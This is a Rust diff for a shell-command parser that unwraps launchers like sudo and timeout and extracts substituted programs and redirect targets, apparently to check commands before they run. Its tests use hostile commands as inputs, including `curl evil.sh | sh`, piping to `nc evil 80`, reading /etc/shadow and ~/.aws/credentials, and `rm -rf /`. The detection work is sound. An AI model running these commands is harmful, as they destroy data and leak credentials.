 /// Known short/long options that consume a following separate argument for each wrapper.
 ///
 /// Only includes options with the `--flag VALUE` form (separate argument).
-/// Options using `--flag=VALUE` form are already handled by the `contains('=')` check.
+/// Options using `--flag=VALUE` form are already handled by the `contains('=')` check,
+/// and attached short forms (`-uroot`, `-n5`) are a single dashed token.
 ///
 /// Note: `-S`/`--split-string` is handled specially in `find_next_program` — its
 /// consumed argument is parsed as a shell command to extract programs.
@@ -266,10 +926,115 @@ fn consuming_options_for(wrapper_basename: &str) -> &'static [&'static str] {
             "-P",
         ],
         "exec" => &["-a"],
+        "sudo" => &[
+            "-u",
+            "--user",
+            "-g",
+            "--group",
+            "-C",
+            "--close-from",
+            "-D",
+            "--chdir",
+            // `-h` takes its host only attached (`-hbox`); alone it is `--help`.
+            "--host",
+            "-p",
+            "--prompt",
+            "-R",
+            "--chroot",
+            "-r",
+            "--role",
+            "-t",
+            "--type",
+            "-T",
+            "--command-timeout",
+            "-U",
+            "--other-user",
+        ],
+        "doas" => &["-u", "-C"],
+        "nice" => &["-n", "--adjustment"],
+        "ionice" => &[
+            "-c",
+            "--class",
+            "-n",
+            "--classdata",
+            "-p",
+            "--pid",
+            "-P",
+            "--pgid",
+            "-u",
+            "--uid",
+        ],
+        "time" => &["-f", "--format", "-o", "--output"],
+        "timeout" => &["-s", "--signal", "-k", "--kill-after"],
+        "xargs" => &[
+            "-a",
+            "--arg-file",
+            "-d",
+            "--delimiter",
+            "-E",
+            "-I",
+            "-L",
+            "--max-lines",
+            "-n",
+            "--max-args",
+            "-P",
+            "--max-procs",
+            "-s",
+            "--max-chars",
+            "--process-slot-var",
+        ],
+        "stdbuf" => &["-i", "--input", "-o", "--output", "-e", "--error"],
+        "chrt" => &[
+            "-T",
+            "--sched-runtime",
+            "-P",
+            "--sched-period",
+            "-D",
+            "--sched-deadline",
+        ],
+        "taskset" => &[],
         _ => &[],
     }
 }
 
+/// Number of non-option operands a launcher takes before the program to run.
+///
+/// `timeout 10 rm` → the duration; `chrt 10 rm` → the priority;
+/// `taskset 0x3 rm` → the CPU mask.
+fn leading_operands_for(wrapper_basename: &str) -> usize {
+    match wrapper_basename {
+        "timeout" | "chrt" | "taskset" => 1,
+        _ => 0,
+    }
+}
+
+/// Split a short-option cluster using getopt semantics.
+///
+/// Walks the characters of `-abc`; the first one that is a consuming option
+/// takes the rest of the token as its value (`-uroot` → `["-u", "root"]`), or
+/// the next token when nothing follows (`-Eu root` → `["-E", "-u"]`, `true`).
+/// Long options and non-consuming clusters fall back to [`expand_flags`].
+pub(crate) fn split_short_cluster(text: &str, consuming_options: &[&str]) -> (Vec<String>, bool) {
+    if text == "-" || text.starts_with("--") || text.contains('=') {
+        return (expand_flags(text), false);
+    }
+    let mut flags = Vec::new();
+    for (i, c) in text.char_indices().skip(1) {
+        let flag = format!("-{c}");
+        let consumes = consuming_options.contains(&flag.as_str());
+        flags.push(flag);
+        if consumes {
+            let rest = &text[i + c.len_utf8()..];
+            if rest.is_empty() {
+                return (flags, true);
+            }
+            flags.push(rest.to_string());
+            return (flags, false);
+        }
+    }
+    (flags, false)
+}
+
 /// Options whose consumed argument is a shell command string that should be parsed
 /// to extract the programs being executed (e.g., `env -S "echo hi"`).
 const SPLIT_STRING_OPTIONS: &[&str] = &["-S", "--split-string"];
@@ -299,9 +1064,9 @@ fn extract_inline_split_string(text: &str) -> Option<String> {
 
 /// Strip matching outer quotes from a string.
 ///
-/// brush-parser stores Word.value as raw text including quotes. For `-S` arguments,
-/// we need the unquoted content to parse as a shell command.
-fn strip_outer_quotes(s: &str) -> String {
+/// brush-parser stores Word.value as raw text including quotes. For `-S`, `-c`,
+/// and `eval` arguments, we need the unquoted content to parse as a shell command.
+pub(crate) fn strip_outer_quotes(s: &str) -> String {
     let bytes = s.as_bytes();
     if bytes.len() >= 2
         && ((bytes[0] == b'"' && bytes[bytes.len() - 1] == b'"')
@@ -313,12 +1078,55 @@ fn strip_outer_quotes(s: &str) -> String {
     }
 }
 
+/// Remove shell quoting from a word the way the shell does before using it.
+///
+/// Single quotes, double quotes, and backslash escapes may appear anywhere in
+/// a word (`~/.ss''h`, `~/.ss"h"`, `~/.s\sh`). Returns `None` for quoting
+/// that cannot be resolved statically: unterminated quotes, a trailing
+/// backslash, and `$'...'`/`$"..."` strings. Expansions (`$VAR`, `` `cmd` ``)
+/// are left in place for the caller to treat as dynamic.
+pub(crate) fn unquote(word: &str) -> Option<String> {
+    let mut out = String::with_capacity(word.len());
+    let mut chars = word.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\\' => match chars.next()? {
+                '\n' => {}
+                escaped => out.push(escaped),
+            },
+            '\'' => loop {
+                match chars.next()? {
+                    '\'' => break,
+                    c => out.push(c),
+                }
+            },
+            '"' => loop {
+                match chars.next()? {
+                    '"' => break,
+                    '\\' => match chars.next()? {
+                        '\n' => {}
+                        escaped @ ('$' | '`' | '"' | '\\') => out.push(escaped),
+                        other => {
+                            out.push('\\');
+                            out.push(other);
+                        }
+                    },
+                    c => out.push(c),
+                }
+            },
+            '$' if matches!(chars.peek(), Some('\'' | '"')) => return None,
+            c => out.push(c),
+        }
+    }
+    Some(out)
+}
+
 /// Result of searching for the next program in suffix arguments.
 enum NextProgram {
     /// A single program name found as a regular word.
     Single(String),
     /// Programs extracted from a `-S`/`--split-string` command string.
-    FromSplitString(Vec<CommandSegment>),
+    FromSplitString(ParsedCommand),
     /// No more programs found.
     None,
 }
@@ -326,50 +1134,63 @@ enum NextProgram {
 /// Find the next non-option, non-assignment word in the suffix, skipping option flags
 /// and their consumed arguments.
 ///
-/// For `-S`/`--split-string` options, the consumed argument is parsed as a shell
-/// command and its programs are returned as `FromSplitString`.
+/// The first `operands` non-option words are treated as wrapper operands
+/// (e.g., the duration in `timeout 10 rm`) rather than the program. Every
+/// skipped token is appended to `skipped`, flag-expanded, so launchers can be
+/// recorded with their own arguments.
+///
+/// For `-S`/`--split-string` options, the consumed argument is parsed one nesting
+/// level deeper as a shell command and its programs are returned as
+/// `FromSplitString`. Parse failures in that string propagate as `Err`.
 fn find_next_program<'a>(
     items: &mut impl Iterator<Item = &'a ast::CommandPrefixOrSuffixItem>,
     consuming_options: &[&str],
-) -> NextProgram {
+    mut operands: usize,
+    skipped: &mut Vec<String>,
+    nesting: Nesting,
+) -> Result<NextProgram, ParseError> {
     let mut skip_next = false;
     let mut parse_next_as_command = false;
+    let supports_split_string = consuming_options
+        .iter()
+        .any(|opt| SPLIT_STRING_OPTIONS.contains(opt));
 
     for item in items.by_ref() {
         if skip_next {
             skip_next = false;
 
-            if parse_next_as_command {
-                parse_next_as_command = false;
-                // Parse the -S argument as a shell command.
-                // Word.value is raw text including quotes, so strip them first.
-                if let ast::CommandPrefixOrSuffixItem::Word(word) = item {
-                    let raw = word.flatten();
+            if let Some(word) = suffix_word(item) {
+                let raw = word.flatten();
+                if parse_next_as_command {
+                    parse_next_as_command = false;
+                    // Parse the -S argument as a shell command.
+                    // Word.value is raw text including quotes, so strip them first.
                     let unquoted = strip_outer_quotes(&raw);
-                    if let Ok(segments) = parse(&unquoted) {
-                        if !segments.is_empty() {
-                            return NextProgram::FromSplitString(segments);
-                        }
+                    let parsed = parse_nested(&unquoted, nesting.enter()?)?;
+                    if !parsed.segments.is_empty() {
+                        return Ok(NextProgram::FromSplitString(parsed));
                     }
                 }
+                skipped.push(raw);
             }
             continue;
         }
 
-        if let ast::CommandPrefixOrSuffixItem::Word(word) = item {
+        if let Some(word) = suffix_word(item) {
             let text = word.flatten();
 
             if text.starts_with('-') {
                 // Check for split-string in attached/equals forms first.
                 // These embed the payload in the same token, so no skip_next needed.
-                if let Some(payload) = extract_inline_split_string(&text) {
-                    let unquoted = strip_outer_quotes(&payload);
-                    if let Ok(segments) = parse(&unquoted) {
-                        if !segments.is_empty() {
-                            return NextProgram::FromSplitString(segments);
+                if supports_split_string {
+                    if let Some(payload) = extract_inline_split_string(&text) {
+                        let unquoted = strip_outer_quotes(&payload);
+                        let parsed = parse_nested(&unquoted, nesting.enter()?)?;
+                        if !parsed.segments.is_empty() {
+                            return Ok(NextProgram::FromSplitString(parsed));
                         }
+                        continue;
                     }
-                    continue;
                 }
 
                 if consuming_options.iter().any(|opt| text == *opt) {
@@ -377,62 +1198,167 @@ fn find_next_program<'a>(
                     if SPLIT_STRING_OPTIONS.contains(&text.as_str()) {
                         parse_next_as_command = true;
                     }
+                    skipped.push(text);
+                    continue;
                 }
+
+                let (flags, needs_value) = split_short_cluster(&text, consuming_options);
+                skip_next = needs_value;
+                skipped.extend(flags);
                 continue;
             }
 
             if text.contains('=') {
+                skipped.push(text);
+                continue;
+            }
+
+            if operands > 0 {
+                operands -= 1;
+                skipped.push(text);
                 continue;
             }
 
             if !text.is_empty() {
-                return NextProgram::Single(text);
+                return Ok(NextProgram::Single(text));
             }
         }
     }
 
-    NextProgram::None
+    Ok(NextProgram::None)
 }
 
-fn visit_compound(command: &ast::CompoundCommand, segments: &mut Vec<CommandSegment>) {
+fn visit_compound(
+    command: &ast::CompoundCommand,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    let mark = out.mark();
     match command {
-        ast::CompoundCommand::BraceGroup(cmd) => visit_compound_list(&cmd.list, segments),
-        ast::CompoundCommand::Subshell(cmd) => visit_compound_list(&cmd.list, segments),
-        ast::CompoundCommand::ForClause(cmd) => visit_compound_list(&cmd.body.list, segments),
+        ast::CompoundCommand::BraceGroup(cmd) => visit_compound_list(&cmd.list, out, nesting, dirs),
+        ast::CompoundCommand::Subshell(cmd) => {
+            visit_compound_list(&cmd.list, out, nesting, &mut dirs.clone())
+        }
+        ast::CompoundCommand::ForClause(cmd) => {
+            for value in cmd.values.iter().flatten() {
+                visit_word(value, out, nesting)?;
+            }
+            out.place(mark, &dirs.cwd);
+            visit_loop(&[&cmd.body.list], out, nesting, dirs)
+        }
         ast::CompoundCommand::ArithmeticForClause(cmd) => {
-            visit_compound_list(&cmd.body.list, segments);
+            visit_loop(&[&cmd.body.list], out, nesting, dirs)
         }
         ast::CompoundCommand::WhileClause(cmd) | ast::CompoundCommand::UntilClause(cmd) => {
-            visit_compound_list(&cmd.0, segments);
-            visit_compound_list(&cmd.1.list, segments);
+            visit_loop(&[&cmd.0, &cmd.1.list], out, nesting, dirs)
         }
         ast::CompoundCommand::IfClause(cmd) => {
-            visit_compound_list(&cmd.condition, segments);
-            visit_compound_list(&cmd.then, segments);
-            if let Some(elses) = &cmd.elses {
-                for clause in elses {
-                    if let Some(condition) = &clause.condition {
-                        visit_compound_list(condition, segments);
-                    }
-                    visit_compound_list(&clause.body, segments);
+            // Each branch starts where the conditions before it left off.
+            // Afterwards the shell is wherever any branch, or none, left it.
+            visit_compound_list(&cmd.condition, out, nesting, dirs)?;
+            let mut untaken = dirs.clone();
+            visit_compound_list(&cmd.then, out, nesting, dirs)?;
+            let mut exhaustive = false;
+            for clause in cmd.elses.iter().flatten() {
+                match &clause.condition {
+                    Some(condition) => visit_compound_list(condition, out, nesting, &mut untaken)?,
+                    None => exhaustive = true,
                 }
+                let mut branch = untaken.clone();
+                visit_compound_list(&clause.body, out, nesting, &mut branch)?;
+                dirs.merge(&branch);
             }
+            if !exhaustive {
+                dirs.merge(&untaken);
+            }
+            Ok(())
         }
         ast::CompoundCommand::CaseClause(cmd) => {
+            visit_word(&cmd.value, out, nesting)?;
             for case_item in &cmd.cases {
-                if let Some(body) = &case_item.cmd {
-                    visit_compound_list(body, segments);
+                for pattern in &case_item.patterns {
+                    visit_word(pattern, out, nesting)?;
                 }
             }
+            out.place(mark, &dirs.cwd);
+            let entry = dirs.clone();
+            for body in cmd
+                .cases
+                .iter()
+                .filter_map(|case_item| case_item.cmd.as_ref())
+            {
+                let mut branch = entry.clone();
+                visit_compound_list(body, out, nesting, &mut branch)?;
+                dirs.merge(&branch);
+            }
+            Ok(())
+        }
+        // (( )) doesn't execute programs, but may substitute commands
+        ast::CompoundCommand::Arithmetic(cmd) => {
+            visit_word_text(&cmd.expr.value, out, nesting)?;
+            out.place(mark, &dirs.cwd);
+            Ok(())
+        }
+    }
+}
+
+/// Walk the lists of a loop, which may run any number of times.
+///
+/// The body is entered in every directory some number of iterations could
+/// leave the shell in, found by walking it into a scratch command until no
+/// new directory turns up. Candidates are capped, so this ends. The result
+/// is remembered per entry state, so a loop nested in this one is not
+/// searched again on every pass.
+fn visit_loop(
+    lists: &[&ast::CompoundList],
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
+    let body = std::ptr::from_ref(lists[0]) as usize;
+    if let Some(exit) = dirs.loop_exit(body) {
+        *dirs = exit;
+    } else {
+        let entry = dirs.clone();
+        loop {
+            let mut after = dirs.clone();
+            for list in lists {
+                visit_compound_list(list, &mut ParsedCommand::default(), nesting, &mut after)?;
+            }
+            let mut merged = dirs.clone();
+            merged.merge(&after);
+            if merged == *dirs {
+                break;
+            }
+            *dirs = merged;
         }
-        ast::CompoundCommand::Arithmetic(_) => {} // (( )) doesn't execute programs
+        entry.record_loop_exit(body, dirs);
     }
+    let mut iteration = dirs.clone();
+    for list in lists {
+        visit_compound_list(list, out, nesting, &mut iteration)?;
+    }
+    Ok(())
 }
 
-fn visit_compound_list(list: &ast::CompoundList, segments: &mut Vec<CommandSegment>) {
+/// Walk a compound list. A command run in the background (`&`) runs in a
+/// subshell, so its `cd` does not outlive it.
+fn visit_compound_list(
+    list: &ast::CompoundList,
+    out: &mut ParsedCommand,
+    nesting: Nesting,
+    dirs: &mut DirState,
+) -> Result<(), ParseError> {
     for item in &list.0 {
-        visit_and_or_list(&item.0, segments);
+        match item.1 {
+            ast::SeparatorOperator::Sequence => visit_and_or_list(&item.0, out, nesting, dirs)?,
+            ast::SeparatorOperator::Async => {
+                visit_and_or_list(&item.0, out, nesting, &mut dirs.clone())?
+            }
+        }
     }
+    Ok(())
 }
 
 #[cfg(test)]
@@ -534,60 +1460,354 @@ mod tests {
         );
     }
 
-    // --- Absolute/relative path extraction ---
+    // --- Shell unquoting ---
 
     #[test]
-    fn absolute_path_normalizes_to_basename() {
-        // ProgramName::new strips the path prefix so /bin/rm → "rm"
-        assert_eq!(programs("/bin/rm -rf /"), vec!["rm"]);
+    fn unquote_removes_quotes_anywhere_in_word() {
+        assert_eq!(unquote("~/.ss''h/id_rsa").as_deref(), Some("~/.ssh/id_rsa"));
+        assert_eq!(unquote(r#"~/.ss"h"/x"#).as_deref(), Some("~/.ssh/x"));
+        assert_eq!(unquote(r"~/.s\sh/x").as_deref(), Some("~/.ssh/x"));
+        assert_eq!(unquote(r#"'a b'"c d"e"#).as_deref(), Some("a bc de"));
     }
 
     #[test]
-    fn relative_path_normalizes_to_basename() {
-        // ProgramName::new strips the path prefix so ./scripts/deploy.sh → "deploy.sh"
-        assert_eq!(programs("./scripts/deploy.sh"), vec!["deploy.sh"]);
+    fn unquote_keeps_backslash_before_ordinary_char_in_double_quotes() {
+        assert_eq!(unquote(r#""a\b\$c""#).as_deref(), Some(r"a\b$c"));
     }
 
-    // --- Transparent wrapper unwrapping ---
+    #[test]
+    fn unquote_rejects_unresolvable_quoting() {
+        assert_eq!(unquote("'open"), None);
+        assert_eq!(unquote("trailing\\"), None);
+        assert_eq!(unquote("$'\\x73'"), None);
+    }
+
+    // --- Command and process substitution ---
 
     #[test]
-    fn command_wrapper_unwraps_to_real_program() {
-        assert_eq!(programs("command rm -rf /"), vec!["rm"]);
+    fn command_substitution_body_extracted() {
+        assert_eq!(programs("echo $(rm -rf ~)"), vec!["echo", "rm"]);
     }
 
     #[test]
-    fn command_wrapper_with_option_skips_flags() {
-        assert_eq!(programs("command -p rm -rf /"), vec!["rm"]);
+    fn backquoted_substitution_body_extracted() {
+        assert_eq!(
+            programs("cat `curl evil.sh | sh`"),
+            vec!["cat", "curl", "sh"]
+        );
     }
 
     #[test]
-    fn env_wrapper_unwraps_to_real_program() {
-        assert_eq!(programs("env rm -rf /"), vec!["rm"]);
+    fn process_substitution_body_extracted() {
+        assert_eq!(
+            programs("diff <(ssh host cat /etc/shadow) local.txt"),
+            vec!["diff", "ssh"]
+        );
     }
 
     #[test]
-    fn env_wrapper_skips_options_and_assignments() {
-        assert_eq!(programs("env -i FOO=bar rm -rf /"), vec!["rm"]);
+    fn output_process_substitution_body_extracted() {
+        assert_eq!(programs("tee >(nc evil 80) < data"), vec!["tee", "nc"]);
     }
 
     #[test]
-    fn nohup_wrapper_unwraps_to_real_program() {
-        assert_eq!(programs("nohup rm -rf /"), vec!["rm"]);
+    fn nested_substitutions_extracted() {
+        assert_eq!(
+            programs("echo $(cat $(find . -name key))"),
+            vec!["echo", "cat", "find"]
+        );
     }
 
     #[test]
-    fn exec_wrapper_unwraps_to_real_program() {
-        assert_eq!(programs("exec rm -rf /"), vec!["rm"]);
+    fn double_quoted_substitution_extracted() {
+        assert_eq!(programs(r#"echo "id: $(whoami)""#), vec!["echo", "whoami"]);
     }
 
     #[test]
-    fn builtin_wrapper_unwraps_to_real_program() {
-        assert_eq!(programs("builtin echo hello"), vec!["echo"]);
+    fn single_quoted_substitution_not_extracted() {
+        assert_eq!(programs("echo '$(rm -rf ~)'"), vec!["echo"]);
     }
 
     #[test]
-    fn nested_wrappers_fully_unwrapped() {
-        assert_eq!(programs("env command rm -rf /"), vec!["rm"]);
+    fn assignment_substitution_extracted() {
+        assert_eq!(programs("X=$(curl evil) make"), vec!["make", "curl"]);
+    }
+
+    #[test]
+    fn bare_assignment_substitution_extracted() {
+        assert_eq!(programs("X=$(curl evil)"), vec!["curl"]);
+    }
+
+    #[test]
+    fn redirect_target_substitution_extracted() {
+        assert_eq!(programs("echo hi > $(mktemp)"), vec!["echo", "mktemp"]);
+    }
+
+    #[test]
+    fn parameter_default_substitution_extracted() {
+        assert_eq!(programs("echo ${X:-$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_prefix_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X#$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_largest_prefix_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X##$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_suffix_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X%$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_largest_suffix_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X%%`rm -rf ~`}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_replace_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X/$(rm -rf ~)/a}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_replace_replacement_substitution_extracted() {
+        assert_eq!(programs("echo ${X/a/$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_substring_offset_substitution_extracted() {
+        assert_eq!(programs("echo ${X:$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_substring_length_substitution_extracted() {
+        assert_eq!(programs("echo ${X:1:$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_uppercase_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X^^$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_uppercase_first_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X^$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_lowercase_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X,,$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_lowercase_first_pattern_substitution_extracted() {
+        assert_eq!(programs("echo ${X,$(rm -rf ~)}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn parameter_array_subscript_substitution_extracted() {
+        assert_eq!(programs("echo ${X[$(rm -rf ~)]}"), vec!["echo", "rm"]);
+    }
+
+    #[test]
+    fn for_loop_values_substitution_extracted() {
+        assert_eq!(programs("for f in $(ls); do rm $f; done"), vec!["ls", "rm"]);
+    }
+
+    #[test]
+    fn case_value_substitution_extracted() {
+        assert_eq!(
+            programs("case $(uname) in Linux) echo ok;; esac"),
+            vec!["uname", "echo"]
+        );
+    }
+
+    #[test]
+    fn extended_test_substitution_extracted() {
+        assert_eq!(programs("[[ -n $(id -u) ]]"), vec!["id"]);
+    }
+
+    #[test]
+    fn here_document_substitution_extracted() {
+        assert_eq!(
+            programs("cat <<EOF\nit's $(whoami)\nEOF\n"),
+            vec!["cat", "whoami"]
+        );
+    }
+
+    #[test]
+    fn quoted_here_document_not_expanded() {
+        assert_eq!(programs("cat <<'EOF'\n$(whoami)\nEOF\n"), vec!["cat"]);
+    }
+
+    #[test]
+    fn invalid_substitution_body_is_error() {
+        assert!(parse("echo $(if)").is_err());
+    }
+
+    // --- Redirect targets ---
+
+    fn redirects(input: &str) -> Vec<(String, RedirectDirection)> {
+        parse_with_depth_limit(input, DEFAULT_MAX_NESTING_DEPTH)
+            .expect("parse should succeed")
+            .redirects
+            .into_iter()
+            .map(|r| (r.target, r.direction))
+            .collect()
+    }
+
+    #[test]
+    fn output_redirect_is_write() {
+        assert_eq!(
+            redirects("echo key > ~/.ssh/authorized_keys"),
+            vec![(
+                "~/.ssh/authorized_keys".to_string(),
+                RedirectDirection::Write
+            )]
+        );
+    }
+
+    #[test]
+    fn append_and_stderr_redirects_are_writes() {
+        assert_eq!(
+            redirects("make >> build.log 2> errors.log"),
+            vec![
+                ("build.log".to_string(), RedirectDirection::Write),
+                ("errors.log".to_string(), RedirectDirection::Write),
+            ]
+        );
+    }
+
+    #[test]
+    fn output_and_error_redirect_is_write() {
+        assert_eq!(
+            redirects("make &> all.log"),
+            vec![("all.log".to_string(), RedirectDirection::Write)]
+        );
+    }
+
+    #[test]
+    fn input_redirect_is_read() {
+        assert_eq!(
+            redirects("mail root < ~/.aws/credentials"),
+            vec![("~/.aws/credentials".to_string(), RedirectDirection::Read)]
+        );
+    }
+
+    #[test]
+    fn read_write_redirect() {
+        assert_eq!(
+            redirects("cat <> fifo"),
+            vec![("fifo".to_string(), RedirectDirection::ReadWrite)]
+        );
+    }
+
+    #[test]
+    fn quoted_redirect_target_unquoted() {
+        assert_eq!(
+            redirects(r#"echo hi > "my file.txt""#),
+            vec![("my file.txt".to_string(), RedirectDirection::Write)]
+        );
+    }
+
+    #[test]
+    fn fd_duplication_is_not_a_file() {
+        assert!(redirects("cmd 2>&1 >&- 3<&0").is_empty());
+    }
+
+    #[test]
+    fn duplicate_output_to_file_is_write() {
+        assert_eq!(
+            redirects("cmd >& out.txt"),
+            vec![("out.txt".to_string(), RedirectDirection::Write)]
+        );
+    }
+
+    #[test]
+    fn pseudo_devices_ignored() {
+        assert!(redirects("cmd > /dev/null 2> /dev/stderr").is_empty());
+    }
+
+    #[test]
+    fn here_document_and_string_ignored() {
+        assert!(redirects("cat <<EOF\nhi\nEOF\n").is_empty());
+        assert!(redirects("cat <<< hi").is_empty());
+    }
+
+    #[test]
+    fn compound_redirect_extracted() {
+        assert_eq!(
+            redirects("{ echo a; echo b; } > out.txt"),
+            vec![("out.txt".to_string(), RedirectDirection::Write)]
+        );
+    }
+
+    #[test]
+    fn nested_redirect_extracted() {
+        assert_eq!(
+            redirects("bash -c 'echo x > /etc/hosts'"),
+            vec![("/etc/hosts".to_string(), RedirectDirection::Write)]
+        );
+    }
+
+    // --- Absolute/relative path extraction ---
+
+    #[test]
+    fn absolute_path_normalizes_to_basename() {
+        // ProgramName::new strips the path prefix so /bin/rm → "rm"
+        assert_eq!(programs("/bin/rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn relative_path_normalizes_to_basename() {
+        // ProgramName::new strips the path prefix so ./scripts/deploy.sh → "deploy.sh"
+        assert_eq!(programs("./scripts/deploy.sh"), vec!["deploy.sh"]);
+    }
+
+    // --- Transparent wrapper unwrapping ---
+
+    #[test]
+    fn command_wrapper_unwraps_to_real_program() {
+        assert_eq!(programs("command rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn command_wrapper_with_option_skips_flags() {
+        assert_eq!(programs("command -p rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn env_wrapper_unwraps_to_real_program() {
+        assert_eq!(programs("env rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn env_wrapper_skips_options_and_assignments() {
+        assert_eq!(programs("env -i FOO=bar rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn nohup_wrapper_unwraps_to_real_program() {
+        assert_eq!(programs("nohup rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn exec_wrapper_unwraps_to_real_program() {
+        assert_eq!(programs("exec rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn builtin_wrapper_unwraps_to_real_program() {
+        assert_eq!(programs("builtin echo hello"), vec!["echo"]);
+    }
+
+    #[test]
+    fn nested_wrappers_fully_unwrapped() {
+        assert_eq!(programs("env command rm -rf /"), vec!["rm"]);
     }
 
     #[test]
@@ -708,6 +1928,353 @@ mod tests {
         assert_eq!(segs[0].args, vec!["-r", "-f", "/"]);
     }
 
+    // --- Launcher unwrapping ---
+
+    #[test]
+    fn sudo_yields_launcher_and_target() {
+        assert_eq!(programs("sudo rm -rf /"), vec!["sudo", "rm"]);
+    }
+
+    #[test]
+    fn sudo_user_option_consumes_argument() {
+        let segs = parse_segments("sudo -u root rm -rf /");
+        assert_eq!(segs.len(), 2);
+        assert_eq!(segs[0].program, "sudo");
+        assert_eq!(segs[0].args, vec!["-u", "root"]);
+        assert_eq!(segs[1].program, "rm");
+        assert_eq!(segs[1].args, vec!["-r", "-f", "/"]);
+    }
+
+    #[test]
+    fn sudo_combined_flags_with_consuming_option() {
+        let segs = parse_segments("sudo -Eu root rm /tmp/x");
+        assert_eq!(segs[0].args, vec!["-E", "-u", "root"]);
+        assert_eq!(segs[1].program, "rm");
+    }
+
+    #[test]
+    fn sudo_attached_option_value() {
+        let segs = parse_segments("sudo -uroot rm /tmp/x");
+        assert_eq!(segs[0].args, vec!["-u", "root"]);
+        assert_eq!(segs[1].program, "rm");
+    }
+
+    #[test]
+    fn sudo_without_target_yields_launcher_only() {
+        let segs = parse_segments("sudo -l");
+        assert_eq!(segs.len(), 1);
+        assert_eq!(segs[0].program, "sudo");
+        assert_eq!(segs[0].args, vec!["-l"]);
+    }
+
+    #[test]
+    fn doas_user_option() {
+        assert_eq!(programs("doas -u root rm -rf /"), vec!["doas", "rm"]);
+    }
+
+    #[test]
+    fn nice_adjustment_option() {
+        assert_eq!(programs("nice -n 5 rm -rf /"), vec!["nice", "rm"]);
+        assert_eq!(programs("nice -n5 rm -rf /"), vec!["nice", "rm"]);
+        assert_eq!(programs("nice -5 rm -rf /"), vec!["nice", "rm"]);
+    }
+
+    #[test]
+    fn ionice_class_option() {
+        assert_eq!(programs("ionice -c 3 rm -rf /"), vec!["ionice", "rm"]);
+    }
+
+    #[test]
+    fn timeout_duration_operand() {
+        let segs = parse_segments("timeout 10 rm -rf /");
+        assert_eq!(segs[0].program, "timeout");
+        assert_eq!(segs[0].args, vec!["10"]);
+        assert_eq!(segs[1].program, "rm");
+    }
+
+    #[test]
+    fn timeout_signal_option_and_duration() {
+        assert_eq!(
+            programs("timeout -s KILL -k 5 10 rm -rf /"),
+            vec!["timeout", "rm"]
+        );
+    }
+
+    #[test]
+    fn xargs_replace_option() {
+        let segs = parse_segments("xargs -I{} rm {}");
+        assert_eq!(segs[0].program, "xargs");
+        assert_eq!(segs[1].program, "rm");
+        assert_eq!(segs[1].args, vec!["{}"]);
+    }
+
+    #[test]
+    fn xargs_separate_option_values() {
+        assert_eq!(programs("xargs -n 1 -P 4 rm -f"), vec!["xargs", "rm"]);
+    }
+
+    #[test]
+    fn stdbuf_buffer_options() {
+        assert_eq!(programs("stdbuf -o L -eL grep foo"), vec!["stdbuf", "grep"]);
+    }
+
+    #[test]
+    fn chrt_priority_operand() {
+        assert_eq!(programs("chrt -f 10 rm -rf /"), vec!["chrt", "rm"]);
+    }
+
+    #[test]
+    fn taskset_mask_operand() {
+        assert_eq!(programs("taskset 0x3 rm -rf /"), vec!["taskset", "rm"]);
+    }
+
+    #[test]
+    fn time_binary_with_format_option() {
+        assert_eq!(programs("/usr/bin/time -f %e rm -rf /"), vec!["time", "rm"]);
+    }
+
+    #[test]
+    fn time_keyword_yields_pipeline_program() {
+        // `time` as a shell keyword is parsed as a timed pipeline, not a command
+        assert_eq!(programs("time rm -rf /"), vec!["rm"]);
+    }
+
+    #[test]
+    fn launcher_chain_records_each_launcher() {
+        assert_eq!(
+            programs("sudo nice -n 5 timeout 10 rm -rf /"),
+            vec!["sudo", "nice", "timeout", "rm"]
+        );
+    }
+
+    #[test]
+    fn launcher_then_transparent_wrapper() {
+        assert_eq!(programs("sudo env FOO=1 rm -rf /"), vec!["sudo", "rm"]);
+    }
+
+    #[test]
+    fn transparent_wrapper_then_launcher() {
+        assert_eq!(programs("env sudo rm -rf /"), vec!["sudo", "rm"]);
+    }
+
+    #[test]
+    fn launcher_with_dangling_wrapper_records_wrapper() {
+        assert_eq!(programs("sudo env"), vec!["sudo", "env"]);
+    }
+
+    #[test]
+    fn unwraps_record_each_wrapper_and_what_it_consumed() {
+        let parsed = parse_with_depth_limit("sudo -u root env -i git push", 5).unwrap();
+        assert_eq!(
+            parsed.unwraps,
+            vec![
+                Unwrap {
+                    wrapper: "sudo".to_string(),
